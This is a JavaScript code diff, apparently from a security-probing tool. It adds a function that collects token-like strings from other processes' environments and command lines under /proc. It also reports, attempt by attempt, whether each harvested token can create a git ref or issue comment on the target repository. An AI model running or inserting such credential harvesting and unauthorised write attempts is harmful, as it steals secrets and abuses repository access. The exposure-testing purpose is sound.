@@ -158,8 +158,20 @@ export function findTarget() {
   return { apis: [...apis], server, owner: owner || null, repo: repo || null, sha: git(["rev-parse", "HEAD"]).trim() };
 }
 
-/** Tries to create a ref and a comment with each token (and with none); resolves with every answer. */
-export async function tryWrites(target, tokens, tag) {
+/** Token-looking strings in the environments and command lines of other processes only (fast). */
+export function processTokens() {
+  const out = [];
+  for (const p of processEnvironments()) {
+    for (const token of tokensIn(`${p.environ.join("\n")}\n${p.cmdline}`)) out.push({ token, where: `/proc/${p.pid}` });
+  }
+  return out;
+}
+
+/**
+ * Tries to create a ref and a comment with each token (and with none); resolves with every
+ * answer, and calls `onAttempt` with each as soon as it is known.
+ */
+export async function tryWrites(target, tokens, tag, onAttempt = () => {}) {
   const attempts = [];
   const issue = Number(promptValue("hostile-issue") ?? "1");
   let n = 0;
@@ -178,7 +190,9 @@ export async function tryWrites(target, tokens, tag) {
         } catch {
           status = -1;
         }
-        attempts.push({ what, api, token: token === null ? "(none)" : `${token.slice(0, 8)}…(${token.length})`, status, worked: status >= 200 && status < 300 });
+        const attempt = { what, api, token: token === null ? "(none)" : `${token.slice(0, 8)}…(${token.length})`, status, worked: status >= 200 && status < 300 };
+        attempts.push(attempt);
+        onAttempt(attempt);
       }
     }
   }
